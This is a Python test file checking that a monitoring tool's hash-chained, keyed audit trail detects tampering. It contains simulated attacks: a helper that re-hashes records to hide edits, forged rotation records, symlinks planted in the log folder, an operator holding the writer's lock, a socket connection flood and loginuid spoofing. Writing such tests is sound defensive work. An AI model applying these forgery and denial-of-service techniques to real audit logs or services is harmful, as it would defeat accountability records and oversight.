"""The audit trail: a changed, removed, moved, copied or truncated record is found, and a
wrong key is named; records are rotated after the retention and not before; several
processes append one chain; the trail's one writer (insmon run) takes commands' records
over its socket with who the kernel says; a forger without the key is caught by the
chain and one with it by the witness (Prometheus); an append costs the same on a big
trail; the pager's pages, deliveries, acknowledgements and refused requests and
`insmon maintenance`'s windows reach it. Dates are relative to the test's clock."""

from __future__ import annotations

import builtins
import contextlib
import csv
import io
import json
import multiprocessing
import multiprocessing.pool
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import tracemalloc
import urllib.request
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from monitor.audit import GENESIS, Trail, _mac, key_file_of, socket_of
from ops.stack import Insmon, Prometheus, Server, free_port, wait_for
from tests.conftest import INSMON
from tests.test_pager import Rig, notification
from vocabulary import SHANGHAI

NOW = datetime.now(SHANGHAI).replace(microsecond=0)
THIS_MONTH = NOW.replace(day=1, hour=0, minute=0, second=0)
# the 15th of the month before last: 30 daily records from it cross one month's end
START = (THIS_MONTH - timedelta(days=40)).replace(day=15, hour=10)
KEY = b"the site's secret"


def filled(folder: Path, count: int = 30, start: datetime = START,
           key: bytes | None = None) -> Trail:
    trail = Trail(folder, key)
    for i in range(count):
        trail.append("pager-delivered", f"person{i % 3}", "ok", {"n": i},
                     at=start + timedelta(days=i))
    return trail


def lines_of(trail: Trail) -> list[tuple[Path, list[str]]]:
    return [(p, p.read_text(encoding="utf-8").splitlines(keepends=True))
            for p in trail.files()]


def faults(trail: Trail) -> list[str]:
    return [str(f) for f in trail.verify().faults]


def forge(folder: Path, edit, key: bytes | None = None) -> None:
    """What a writer of the folder does to hide an edit: `edit` each record (None drops
    it, a list inserts), then every record numbered and hashed again in order (with
    `key`, or as a trail without one), and HEAD sealed again."""
    from monitor.audit import Head

    trail = Trail(folder, key)
    prev, seq, head = GENESIS, 0, None
    for path in trail.files():
        out = []
        for line in path.read_text(encoding="utf-8").splitlines():
            edited = edit(json.loads(line))
            for record in [] if edited is None else \
                    edited if isinstance(edited, list) else [edited]:
                seq += 1
                record.update(seq=seq, prev=prev)
                body = json.dumps({k: record[k] for k in ("seq", "prev", "at", "event", "who",
                                                          "outcome", "detail")},
                                  ensure_ascii=False, separators=(",", ":"))[:-1]
                record["hash"] = prev = _mac(key, body.encode())
                out.append(body + f',"hash":"{prev}"}}\n')
                head = record
        path.write_text("".join(out), encoding="utf-8")
    stored = json.loads((folder / "HEAD").read_text())
    stored.pop("seal")
    stored.update(seq=head["seq"], hash=head["hash"], at=head["at"],
                  size=trail.files()[-1].stat().st_size, keyed=key is not None)
    trail._store(Head(**stored))


@pytest.mark.dates
def test_an_untouched_trail_verifies_across_months(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    assert len(trail.files()) == 2
    assert faults(trail) == []
    assert [r["seq"] for r in trail.records()] == list(range(1, 31))


def test_a_changed_record_is_found_where_it_is(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[0]
    record = json.loads(lines[4])
    record["who"] = "somebody-else"
    lines[4] = json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n"
    path.write_text("".join(lines), encoding="utf-8")
    assert faults(trail) == [f"{path.name}:5: record 5 was changed (its hash does not "
                             "match it)"]


def test_a_removed_record_is_found_and_so_is_a_removed_tail(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[0]
    path.write_text("".join(lines[:7] + lines[8:]), encoding="utf-8")
    assert faults(trail) == [f"{path.name}:8: records 8 to 8 are missing"]

    tail = filled(tmp_path / "tail")
    path, lines = lines_of(tail)[-1]
    path.write_text("".join(lines[:-2]), encoding="utf-8")
    assert [f.what for f in tail.verify().faults] == [
        "the trail ends at record 28, HEAD says 30: its last records were removed or changed"]


def test_two_swapped_lines_are_named_as_out_of_order(tmp_path: Path) -> None:
    """Issue 33 (3): records were sorted by their number before, so swapped lines passed."""
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[0]
    lines[2], lines[3] = lines[3], lines[2]
    path.write_text("".join(lines), encoding="utf-8")
    assert faults(trail) == [f"{path.name}:4: record 3 comes after record 4 ({path.name}:3): "
                             "the order of the lines was changed"]


def test_a_duplicated_line_is_named_as_a_copy(tmp_path: Path) -> None:
    """Issue 33 (3): a copied line gave 'records 4352 to 4350 are missing'."""
    trail = filled(tmp_path)
    path, lines = lines_of(trail)[-1]
    copied = len(lines)
    path.write_text("".join([*lines, lines[1]]), encoding="utf-8")
    first = lines_of(trail)[0][1]
    seq = len(first) + 2
    assert faults(trail) == [f"{path.name}:{copied + 1}: record {seq} again: a copy of "
                             f"{path.name}:2"]
    # a second record under a number already taken (its own hash right: no key) is
    # named as such, not as a gap
    record = json.loads(lines[1])
    record["who"] = "inserted"
    path.write_text("".join(lines), encoding="utf-8")
    forge(tmp_path, lambda r: r)
    extra = Trail(tmp_path)
    with path.open("a", encoding="utf-8") as out:
        body = json.dumps({k: record[k] for k in ("seq", "prev", "at", "event", "who",
                                                  "outcome", "detail")},
                          separators=(",", ":"))[:-1]
        out.write(body + f',"hash":"{_mac(None, body.encode())}"}}\n')
    assert f"{path.name}:{copied + 1}: a second record {seq} (the first at {path.name}:2)" \
        in faults(extra)


def test_a_wrong_or_missing_key_is_named_once(tmp_path: Path) -> None:
    """Issue 33 (3): every record was flagged 'changed', with no word of the key."""
    filled(tmp_path, key=KEY)
    assert faults(Trail(tmp_path, b"another key")) == [
        "no record verifies with this key: wrong or missing key (or every record was "
        "rewritten)", "HEAD: does not match its seal: it was changed (or the key is wrong)"]
    assert faults(Trail(tmp_path)) == [
        "no record verifies without a key: wrong or missing key (the trail's key: "
        "--key-file)", "HEAD: is sealed with the trail's key: wrong or missing key"]
    assert faults(Trail(tmp_path, KEY)) == []


def test_a_head_fault_names_the_folder_once(tmp_path: Path) -> None:
    """Issue 33 (3): HEAD's faults printed the folder twice."""
    filled(tmp_path / "trail")
    head = tmp_path / "trail" / "HEAD"
    head.write_text(head.read_text().replace('"seq":30', '"seq":29'))
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--verify",
                           "--prometheus", "http://127.0.0.1:9"], capture_output=True,
                          text=True, timeout=60)
    assert done.returncode == 1
    [line] = [x for x in done.stdout.splitlines() if "seal" in x]
    assert line == f"{head}: does not match its seal: it was changed (or the key is wrong)"
    assert line.count(str(tmp_path)) == 1


def test_a_rewritten_chain_is_found_when_the_trail_has_a_key(tmp_path: Path) -> None:
    """Without the key, whoever edits a record cannot make its hash, nor HEAD's seal."""
    keyed = filled(tmp_path, key=KEY)

    def edit(record: dict) -> dict:
        if record["seq"] == 5:
            record["who"] = "somebody-else"
        return record

    forge(tmp_path, edit)  # re-hashed as a trail without a key, HEAD sealed again
    found = keyed.verify()
    assert found.faults[0].what.startswith("no record verifies with this key")
    assert not found.trusted("x:1", {"seq": 1})
    assert faults(filled(tmp_path / "other", key=KEY)) == []


@pytest.mark.dates
def test_records_are_rotated_after_the_retention_and_not_before(tmp_path: Path) -> None:
    trail = Trail(tmp_path, KEY)
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=220))
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=189))
    trail.append("maintenance-declared", "ops", "ok", at=NOW - timedelta(days=100))
    old, kept, recent = (f"audit-{(NOW - timedelta(days=d)):%Y-%m}.jsonl"
                         for d in (220, 189, 100))
    trail.append("config", "insmon", "unchanged", at=NOW)
    names = [p.name for p in trail.files()]
    assert old not in names and kept in names and recent in names
    rotated = [r for r in trail.records() if r["event"] == "rotated"]
    assert [r["detail"]["file"] for r in rotated] == [old]
    assert faults(trail) == []
    # the oldest kept is 189 days old: kept until its 190th day is over
    trail.append("config", "insmon", "unchanged", at=NOW + timedelta(hours=12))
    assert kept in [p.name for p in trail.files()]
    trail.append("config", "insmon", "unchanged", at=NOW + timedelta(days=1, hours=1))
    assert kept not in [p.name for p in trail.files()]
    assert faults(trail) == []


def test_a_month_removed_without_rotation_is_found(tmp_path: Path) -> None:
    trail = filled(tmp_path)
    first = trail.files()[0]
    removed = len(first.read_text().splitlines())
    first.unlink()
    assert [f.what for f in trail.verify().faults] == [
        f"records before {removed + 1} are missing (no rotation of them is recorded)"]


def test_a_forged_rotation_needs_the_key(tmp_path: Path) -> None:
    """Issue 33 (2): a `rotated` record written by a writer of the folder hid a deleted
    oldest month. Without the key it does not verify, and the month shows as missing."""
    trail = filled(tmp_path, key=KEY)
    first = trail.files()[0]
    last = json.loads(first.read_text().splitlines()[-1])
    first.unlink()
    forger = Trail(tmp_path)
    stored = json.loads((tmp_path / "HEAD").read_text())
    stored.update(keyed=False)
    stored.pop("seal")
    from monitor.audit import Head
    forger._store(Head(**stored))
    forger.append("rotated", "insmon", "ok", {"file": first.name, "last_seq": last["seq"],
                                              "last_hash": last["hash"]})
    found = [f.what for f in trail.verify().faults]
    assert f"records before {last['seq'] + 1} are missing (no rotation of them is " \
           "recorded)" in found
    assert any("written without the trail's key" in f or "was changed" in f for f in found)


def test_an_append_reads_only_head_and_the_file_it_writes(tmp_path: Path,
                                                          monkeypatch) -> None:
    """Issue 33 (6): each append read the oldest month under the lock (7 appends a
    second on a trail of a million records). Now HEAD holds what the next needs."""
    trail = filled(tmp_path, key=KEY)
    opened: list[str] = []
    real_open, real_os_open = builtins.open, os.open

    def noting(file, *args, **kwargs):
        opened.append(Path(file).name)
        return real_open(file, *args, **kwargs)

    def os_noting(path, *args, **kwargs):
        opened.append(Path(path).name)
        return real_os_open(path, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", noting)
    monkeypatch.setattr(io, "open", noting)
    monkeypatch.setattr(os, "open", os_noting)
    trail.append("config", "insmon", "unchanged", at=START + timedelta(days=31))
    monkeypatch.undo()
    current = trail.files()[-1].name
    assert set(opened) <= {"HEAD", ".lock", current} | {n for n in opened
                                                         if n.startswith("HEAD.")}, opened
    assert faults(trail) == []


def test_verify_keeps_a_few_bytes_a_record_whatever_the_trail(tmp_path: Path) -> None:
    """Issue 33 (6): verifying a million records took 2.06 GB (every record held). It
    streams now: what it keeps per record is a few bytes."""
    trail = Trail(tmp_path, KEY)
    count = 20_000
    for i in range(count):
        trail.append("pager-delivered", "insmon-pager", "ok",
                     {"event_id": i, "detail": "x" * 200}, at=START + timedelta(seconds=i))
    tracemalloc.start()
    try:
        found = trail.verify()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert found.faults == [] and found.records == count
    assert peak / count < 64, f"{peak / count:.0f} bytes a record"


def test_a_trail_without_a_key_gets_one_and_still_verifies(tmp_path: Path) -> None:
    """A trail written before insmon had a key: the first writer with one adds a `keyed`
    record naming the last record without, which holds all of those."""
    filled(tmp_path)
    keyed = Trail(tmp_path, KEY)
    keyed.append("config", "insmon", "loaded", at=START + timedelta(days=31))
    events = [r["event"] for r in keyed.records()]
    assert events[-2:] == ["keyed", "config"]
    assert faults(keyed) == []
    # a record written without the key after it is named
    forge_free = Trail(tmp_path)
    stored = json.loads((tmp_path / "HEAD").read_text())
    stored.pop("seal")
    stored["keyed"] = False
    from monitor.audit import Head
    forge_free._store(Head(**stored))
    with pytest.raises(Exception, match="HEAD was rewritten"):
        Trail(tmp_path, KEY).append("config", "x", "ok")
    forge_free.append("config", "intruder", "ok", at=START + timedelta(days=32))
    assert any("was written without the trail's key" in f for f in faults(keyed))


def test_a_trail_of_the_format_before_verifies_and_goes_on(tmp_path: Path) -> None:
    """A site's trail from before this format (each hash over the record's canonical
    JSON, HEAD three words, filed by each record's own month), with the pager's key:
    it verifies as it is, and the next append goes on from it."""
    prev, lines = GENESIS, []
    for seq in range(1, 6):
        record = {"seq": seq, "at": (START + timedelta(days=seq)).isoformat(
            timespec="milliseconds"), "who": "insmon-pager", "event": "pager-delivered",
            "outcome": "ok", "detail": {"n": seq}, "prev": prev}
        record["hash"] = prev = _mac(KEY, json.dumps(record, ensure_ascii=False,
                                                     sort_keys=True,
                                                     separators=(",", ":")).encode())
        lines.append(json.dumps(record, ensure_ascii=False, separators=(",", ":")) + "\n")
    (tmp_path / f"audit-{START:%Y-%m}.jsonl").write_text("".join(lines))
    (tmp_path / "HEAD").write_text(f"5 {prev} {_mac(KEY, f'5 {prev}'.encode())}\n")
    trail = Trail(tmp_path, KEY)
    assert faults(trail) == []
    trail.append("config", "insmon-pager", "unchanged", at=START + timedelta(days=7))
    assert [r["seq"] for r in trail.records()] == [1, 2, 3, 4, 5, 6]
    assert faults(trail) == [] and trail.head().id
    lines[2] = lines[2].replace('"n":3', '"n":33')
    trail.files()[0].write_text("".join(lines) + trail.files()[0].read_text()
                                .split("\n", 5)[5])
    assert faults(trail) == [f"audit-{START:%Y-%m}.jsonl:3: record 3 was changed (its hash "
                             "does not match it)"]


def test_a_writer_stopped_before_head_leaves_nothing_broken(tmp_path: Path) -> None:
    """A line on disk, HEAD not yet moved (a kill between them): the next append takes
    the line in and goes on; a line that does not follow on stops the writer."""
    trail = filled(tmp_path, key=KEY)
    before = (tmp_path / "HEAD").read_text()
    trail.append("config", "insmon", "ok", at=START + timedelta(days=30))
    (tmp_path / "HEAD").write_text(before)
    trail.append("config", "insmon", "ok", at=START + timedelta(days=30, hours=1))
    assert [r["seq"] for r in trail.records()][-3:] == [30, 31, 32]
    assert faults(trail) == []
    with trail.files()[-1].open("a") as out:
        out.write('{"seq":99}\n')
    with pytest.raises(Exception, match="do not follow on"):
        trail.append("config", "insmon", "ok")


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 KiB file system (CI runs as root)."""
    volume = tmp_path / "volume"
    volume.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(volume)],
                   check=True)
    try:
        yield volume
    finally:
        subprocess.run(["umount", "-l", str(volume)], check=False)


def test_a_full_disk_refuses_the_record_and_leaves_no_half_line(small_disk: Path) -> None:
    """A disk that fills up in the middle of a line took part of it (a short write), and
    append() said the record was written: HEAD named a record no file held, and the next
    record, written after the half line, broke both. Now the record is refused (the
    caller knows it is not on record), the file is as before, and the trail goes on."""
    trail = Trail.open(small_disk / "audit", create_key=True)
    trail.append("drill", "zhangsan", "passed", {"n": 1})
    path = trail.files()[-1]
    room = 4096 - path.stat().st_size % 4096  # what the file's last page still holds
    # unbuffered: the write that fills the disk fails here, not at close
    with open(small_disk / "filler", "wb", buffering=0) as filler, \
            contextlib.suppress(OSError):
        while True:
            filler.write(b"\0" * 4096)
    size = path.stat().st_size
    with pytest.raises(OSError, match="No space left"):  # longer than that page's room
        trail.append("drill", "zhangsan", "passed", {"n": 2, "pad": "x" * room})
    assert path.stat().st_size == size
    (small_disk / "filler").unlink()
    trail.append("drill", "zhangsan", "passed", {"n": 3})
    assert [(r["seq"], r["detail"]["n"]) for r in trail.records()] == [(1, 1), (2, 3)]
    assert faults(trail) == []


def _append_many(folder: str, name: str, count: int) -> None:
    trail = Trail.open(folder, create_key=True)
    for i in range(count):
        trail.append("config", name, "ok", {"i": i})


def test_processes_appending_together_make_one_unbroken_chain(tmp_path: Path) -> None:
    context = multiprocessing.get_context("spawn")
    folder = tmp_path / "audit"
    workers = [context.Process(target=_append_many, args=(str(folder), f"p{i}", 150))
               for i in range(3)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join(timeout=120)
        assert worker.exitcode == 0
    trail = Trail.open(folder)
    assert trail.key and key_file_of(folder).stat().st_mode & 0o777 == 0o400
    assert [r["seq"] for r in trail.records()] == list(range(1, 451))
    assert faults(trail) == []


@pytest.mark.dates
def test_the_command_verifies_filters_and_exports_csv(tmp_path: Path) -> None:
    trail = filled(tmp_path / "trail")
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--verify",
                           "--prometheus", "http://127.0.0.1:9"],
                          capture_output=True, text=True, timeout=60)
    # the chain holds, but no witness said so: not 0
    assert done.returncode == 2 and "every record is as written" in done.stdout
    assert "not compared with a witness" in done.stdout
    out = tmp_path / "audit.csv"
    since, until = START + timedelta(days=10), START + timedelta(days=15)
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--from",
                           since.strftime("%Y-%m-%d %H:%M"), "--to",
                           until.strftime("%Y-%m-%d %H:%M"), "--csv", str(out)],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(out.open(encoding="utf-8-sig")))
    assert rows[0][:5] == ["序号 seq", "时间 time (Beijing)", "人员 who", "事件 event",
                           "结果 outcome"]
    assert [int(r[0]) for r in rows[1:]] == list(range(11, 16))
    path, lines = lines_of(trail)[-1]
    path.write_text("".join(lines[:3] + lines[4:]), encoding="utf-8")
    done = subprocess.run([INSMON, "audit", str(tmp_path / "trail"), "--verify",
                           "--prometheus", "http://127.0.0.1:9"],
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and "missing" in done.stdout, done.stdout


@pytest.mark.dates
def test_a_refused_maintenance_window_is_on_record_with_who_and_why(tmp_path: Path) -> None:
    start, end = NOW + timedelta(days=1), NOW + timedelta(days=30)
    done = subprocess.run(
        [INSMON, "maintenance", "--alertmanager", "http://127.0.0.1:9", "--site", "h1",
         "--from", f"{start:%Y-%m-%d} 01:00", "--to", f"{end:%Y-%m-%d} 05:00", "--comment",
         "平台切换", "--audit", str(tmp_path / "audit")], capture_output=True, text=True,
        timeout=60, env={"PATH": "/usr/bin:/bin", "SUDO_USER": "zhangsan"})
    assert done.returncode == 1 and "over 14 days" in done.stderr
    [record] = Trail(tmp_path / "audit").records()
    assert (record["event"], record["who"], record["outcome"]) == (
        "maintenance-declared", "zhangsan", "refused")
    assert record["detail"]["comment"] == "平台切换" and "14 days" in record["detail"]["why"]
    # no service took it: the command wrote it, with the key it made beside the trail
    assert record["detail"]["caller"]["directly"] is True
    assert faults(Trail.open(tmp_path / "audit")) == []


def _serving(tmp_path: Path, extra: list[str] = ()) -> Insmon:
    port = free_port()
    insmon = Insmon(tmp_path / "insmon", f"listen: 127.0.0.1:{port}\nchecks:\n"
                    "- {name: cpu, kind: cpu}\n", ["--audit", str(tmp_path / "audit"), *extra])
    insmon.url = f"http://127.0.0.1:{port}"
    try:
        wait_for(lambda: socket_of(tmp_path / "audit").is_socket() and
                 " started with " in insmon.log_file.read_text(), 30, "insmon to start")
    except BaseException:
        insmon.stop()
        raise
    return insmon


def _declare(tmp_path: Path, comment: str, *, as_nobody: bool = False,
             said: str = "zhangsan") -> subprocess.CompletedProcess:
    start, end = NOW + timedelta(days=1), NOW + timedelta(days=30)
    argv = [INSMON, "maintenance", "--alertmanager", "http://127.0.0.1:9", "--site", "h1",
            "--from", f"{start:%Y-%m-%d} 01:00", "--to", f"{end:%Y-%m-%d} 05:00",
            "--comment", comment, "--audit", str(tmp_path / "audit")]
    if as_nobody:  # an operator who may not write the folder nor read the key
        argv = ["setpriv", "--reuid=65534", "--regid=0", "--clear-groups", *argv]
    return subprocess.run(argv, capture_output=True, text=True, timeout=60,
                          env={"PATH": "/usr/bin:/bin", "SUDO_USER": said})


@pytest.fixture
def open_tmp() -> Iterator[Path]:
    """A folder others may pass through (pytest's own are root's alone): for a command
    run as another user."""
    folder = Path(tempfile.mkdtemp(prefix="insmon-audit-test-"))
    folder.chmod(0o755)
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def test_the_service_is_the_one_writer_and_the_kernel_says_who(open_tmp: Path) -> None:
    """Issue 33 (2): the folder was group-writable for operators, and `who` was what the
    environment said. Now insmon's service writes the trail (folder and key its own) and
    takes commands' records over its socket, asking the kernel who sent them."""
    tmp_path = open_tmp
    # a trail as an install before left it: no key, the operators' group writing it
    older = filled(tmp_path / "audit", count=3)
    for path in (tmp_path / "audit", *older.files(), tmp_path / "audit" / "HEAD"):
        path.chmod(0o2770 if path.is_dir() else 0o660)
    insmon = _serving(tmp_path)
    try:
        assert [r["event"] for r in older.records()][3:5] == ["keyed", "config"]
        assert [p.stat().st_mode & 0o7777 for p in (tmp_path / "audit", *older.files())] \
            == [0o2750] + [0o640] * len(older.files())
        done = _declare(tmp_path, "by an operator", as_nobody=True, said="zhangsan")
        assert "over 14 days" in done.stderr, done.stderr
        [record] = [r for r in Trail(tmp_path / "audit").records()
                    if r["event"] == "maintenance-declared"]
        assert record["who"] == "nobody", record  # what the kernel says, not SUDO_USER
        assert record["detail"]["caller"]["uid"] == 65534
        assert record["detail"]["caller"]["said"] == "zhangsan"
        # someone who logged in as nobody and became root (sudo keeps the login uid)
        start, end = NOW + timedelta(days=1), NOW + timedelta(days=30)
        sudo = subprocess.run(
            ["sh", "-c", 'echo 65534 > /proc/self/loginuid && exec "$@"', "sh", INSMON,
             "maintenance", "--alertmanager", "http://127.0.0.1:9", "--site", "h1", "--from",
             f"{start:%Y-%m-%d} 01:00", "--to", f"{end:%Y-%m-%d} 05:00", "--comment", "sudo",
             "--audit", str(tmp_path / "audit")], capture_output=True, text=True,
            timeout=60, env={"PATH": "/usr/bin:/bin", "SUDO_USER": "zhangsan"})
        assert "over 14 days" in sudo.stderr, sudo.stderr
        last = list(Trail(tmp_path / "audit").records())[-1]
        assert last["who"] == "nobody (as root)", last
        assert last["detail"]["caller"]["login_uid"] == 65534
        folder = (tmp_path / "audit").stat().st_mode
        assert not folder & 0o022 and key_file_of(tmp_path / "audit").stat().st_mode \
            & 0o777 == 0o400
        # nobody cannot write the trail themselves: what they hand over is all they can do
        stray = subprocess.run(["setpriv", "--reuid=65534", "--regid=0", "--clear-groups",
                                "sh", "-c", f"echo x >> {tmp_path / 'audit' / 'HEAD'}"],
                               capture_output=True, timeout=30)
        assert stray.returncode != 0
        # and a command may hand over only a command's events
        from monitor.audit_socket import Recorder
        with pytest.raises(Exception, match="not an event a command records"):
            Recorder(tmp_path / "audit").append("rotated", "x", "ok", {})
    finally:
        insmon.stop()
    assert faults(Trail.open(tmp_path / "audit")) == []


def _as_service(folder: Path, days: int) -> subprocess.CompletedProcess:
    """An append by the trail's writer, a user of its own (uid 65534 here), `days` on."""
    code = ("import sys; from datetime import datetime, timedelta; "
            "from monitor.audit import Trail; from vocabulary import SHANGHAI; "
            "Trail.open(sys.argv[1], create_key=True).append('config', 'insmon', 'ok', "
            "at=datetime.now(SHANGHAI) + timedelta(days=int(sys.argv[2])))")
    return subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                           sys.executable, "-c", code, str(folder), str(days)],
                          capture_output=True, text=True, timeout=60,
                          cwd=Path(__file__).parents[1])


def test_what_root_writes_itself_stays_the_services(open_tmp: Path) -> None:
    """With insmon's service stopped, root's `insmon maintenance` writes the trail itself.
    What it made was root's: the key (made there when no service had run yet), and the
    service could not start ("the audit trail's key: Permission denied"); a month's file,
    and the service could write no record until the month was over. What root makes in
    a trail is the trail's owner's."""
    from monitor.audit_socket import Recorder

    state = open_tmp / "state"  # /var/lib/insmon, the service's
    state.mkdir()
    os.chown(state, 65534, 65534)
    folder = state / "audit"
    Recorder(folder).append("drill", "zhangsan", "passed", {"scenario": "reference"})
    done = _as_service(folder, 0)
    assert done.returncode == 0, done.stderr
    Trail.open(folder).append("drill", "zhangsan", "passed", at=NOW + timedelta(days=40))
    done = _as_service(folder, 41)
    assert done.returncode == 0, done.stderr
    made = [folder, key_file_of(folder), *folder.iterdir()]
    assert {(p.name, p.stat().st_uid) for p in made} == {(p.name, 65534) for p in made}
    assert [r["event"] for r in Trail.open(folder).records()] == \
        ["drill", "config", "drill", "config"]
    assert faults(Trail.open(folder)) == []


def test_a_link_planted_in_the_folder_is_not_followed(tmp_path: Path) -> None:
    """Whoever could write the folder (an install before let the operators' group) put
    this month's file there as a symbolic link: the writer appended its record to the file
    it points to, wherever that is, as the service or as root. Nor may the lock, which
    the writer makes its own, lead it to another file."""
    folder = tmp_path / "audit"
    trail = filled(folder, count=2, start=THIS_MONTH - timedelta(days=40), key=KEY)
    victim = tmp_path / "victim"  # empty: a file with no line HEAD does not know
    victim.touch(0o644)
    (folder / f"audit-{NOW:%Y-%m}.jsonl").symlink_to(victim)
    with pytest.raises(OSError):
        trail.append("drill", "zhangsan", "passed", at=NOW)
    (folder / f"audit-{NOW:%Y-%m}.jsonl").unlink()
    (folder / ".lock").unlink()
    (folder / ".lock").symlink_to(victim)
    with pytest.raises(OSError):
        trail.append("drill", "zhangsan", "passed", at=NOW)
    assert victim.read_text() == ""
    assert victim.stat().st_mode & 0o777 == 0o644


def test_an_operator_who_reads_the_folder_cannot_hold_the_writers_lock(open_tmp: Path
                                                                      ) -> None:
    """flock needs only a file one may open: an operator of the folder's group held the
    writer's lock (`flock -x audit/.lock sleep`) and every append waited, insmon's
    config record at a reload with its event loop, so its checks stopped running. The
    lock is the writer's alone (one an older version left open to all is taken back)."""
    folder = open_tmp / "audit"
    trail = Trail.open(folder, create_key=True)
    trail.append("drill", "zhangsan", "passed")
    (folder / ".lock").chmod(0o644)  # as the version before left it
    trail.append("drill", "zhangsan", "passed")
    holder = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=0", "--clear-groups",
                               "flock", "-x", str(folder / ".lock"), "sleep", "60"],
                              stderr=subprocess.DEVNULL)
    inode = f":{(folder / '.lock').stat().st_ino} "
    try:
        wait_for(lambda: holder.poll() is not None or
                 inode in Path("/proc/locks").read_text(), 10, "the operator's flock")
        writer = multiprocessing.pool.ThreadPool(1)
        try:  # not waiting for the operator
            assert writer.apply_async(trail.append, ("drill", "lisi", "passed")).get(
                timeout=10)["seq"] == 3
        finally:
            writer.close()
    finally:
        holder.kill()
        holder.wait(timeout=10)
    assert (folder / ".lock").stat().st_mode & 0o777 == 0o600
    assert faults(trail) == []


def _sample(url: str, name: str) -> float | None:
    for line in urllib.request.urlopen(f"{url}/metrics", timeout=5).read().decode() \
            .splitlines():
        if line.startswith(name + "{") or line.startswith(name + " "):
            return float(line.rsplit(" ", 1)[1])
    return None


@pytest.mark.timeout(120)
def test_a_flood_of_callers_on_the_socket_blinds_nothing(tmp_path: Path) -> None:
    """Whoever may use audit.sock (the operators' group) held 1,100 connections open:
    insmon, with the 1,024 descriptors systemd gives a service, answered no scrape and
    its checks could open no socket. The socket now takes a few callers at a time and
    tells the others it is busy; nothing else of insmon's waits for it."""
    from monitor.audit_socket import Recorder

    port = free_port()
    url = f"http://127.0.0.1:{port}"
    (tmp_path / "insmon.yaml").write_text(
        f"listen: 127.0.0.1:{port}\nchecks:\n- {{name: self, kind: tcp, targets: "
        f"['127.0.0.1:{port}'], interval: 1s, timeout: 500ms}}\n")
    insmon = Server(tmp_path, "insmon", ["prlimit", "--nofile=1024", "--", INSMON, "run",
                                         "-c", str(tmp_path / "insmon.yaml"),
                                         "--audit", str(tmp_path / "audit")])
    flood: list[socket.socket] = []
    try:
        wait_for(lambda: socket_of(tmp_path / "audit").is_socket() and
                 " started with " in insmon.log_file.read_text(), 30, "insmon to start")
        for _ in range(1100):
            flood.append(socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
            flood[-1].connect(str(socket_of(tmp_path / "audit")))
        since = time.time()
        # scraped, and its check ran after the flood, with a socket of its own
        wait_for(lambda: (_sample(url, "insmon_probe_last_run_timestamp_seconds") or 0)
                 > since + 1, 30, "a run of the check after the flood")
        assert _sample(url, "insmon_probe_success") == 1.0
        for conn in flood:
            conn.close()
        flood.clear()
        record = Recorder(tmp_path / "audit").append("drill", "zhangsan", "passed", {})
        assert "directly" not in json.dumps(list(Trail(tmp_path / "audit").records())[-1])
        assert record["seq"] > 0
    finally:
        for conn in flood:
            conn.close()
        insmon.stop()


async def test_a_malformed_request_on_the_socket_is_answered_and_not_recorded(
        tmp_path: Path) -> None:
    """A request nested deeper than the JSON parser goes got no answer, and a traceback
    in insmon's log for each one sent. Each bad request is answered with what is wrong."""
    import asyncio

    from monitor import audit_socket

    trail = Trail.open(tmp_path / "audit", create_key=True)
    server = await audit_socket.serve(trail)

    def ask(request: bytes) -> dict:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.settimeout(10)
            conn.connect(str(socket_of(tmp_path / "audit")))
            conn.sendall(request + b"\n")
            return json.loads(conn.makefile("rb").readline() or b"{}")

    try:
        deep = b'{"event":"drill","outcome":"passed","detail":' + b"[" * 100_000 + b"]}"
        for request, said in ((deep, "too deep"), (b"\xff\xfe", "decode"),
                              (b'{"event":"rotated","outcome":"ok"}', "not an event"),
                              (b'{"event":"drill","outcome":"' + b"x" * 40 + b'"}', "short"),
                              (b"[1]", "a JSON object")):
            assert said in (await asyncio.to_thread(ask, request)).get("error", ""), request
        answer = await asyncio.to_thread(ask, b'{"event":"drill","outcome":"passed"}')
        assert answer["seq"] == 1
    finally:
        server.close()
    assert [r["event"] for r in trail.records()] == ["drill"]


def test_a_second_insmon_on_the_trail_leaves_the_first_its_socket(tmp_path: Path) -> None:
    """A second `insmon run` on the same trail (another config tried out) removed the
    socket of the one running and, once stopped, left a socket nobody answers: the
    operators' records were refused until the service restarted. The first keeps it."""
    from monitor.audit_socket import Recorder

    first = _serving(tmp_path)
    try:
        port = free_port()
        second = Insmon(tmp_path / "second", f"listen: 127.0.0.1:{port}\nchecks:\n"
                        "- {name: cpu, kind: cpu}\n",
                        ["--audit", str(tmp_path / "audit")])
        try:
            wait_for(lambda: " started with " in second.log_file.read_text(), 30,
                     "the second insmon to start")
            assert "another insmon takes this trail's records" in \
                second.log_file.read_text()
        finally:
            second.stop()
        Recorder(tmp_path / "audit").append("drill", "zhangsan", "passed", {})
        [record] = [r for r in Trail(tmp_path / "audit").records() if r["event"] == "drill"]
        assert record["detail"]["caller"]["pid"] == os.getpid()  # handed over, not direct
    finally:
        first.stop()


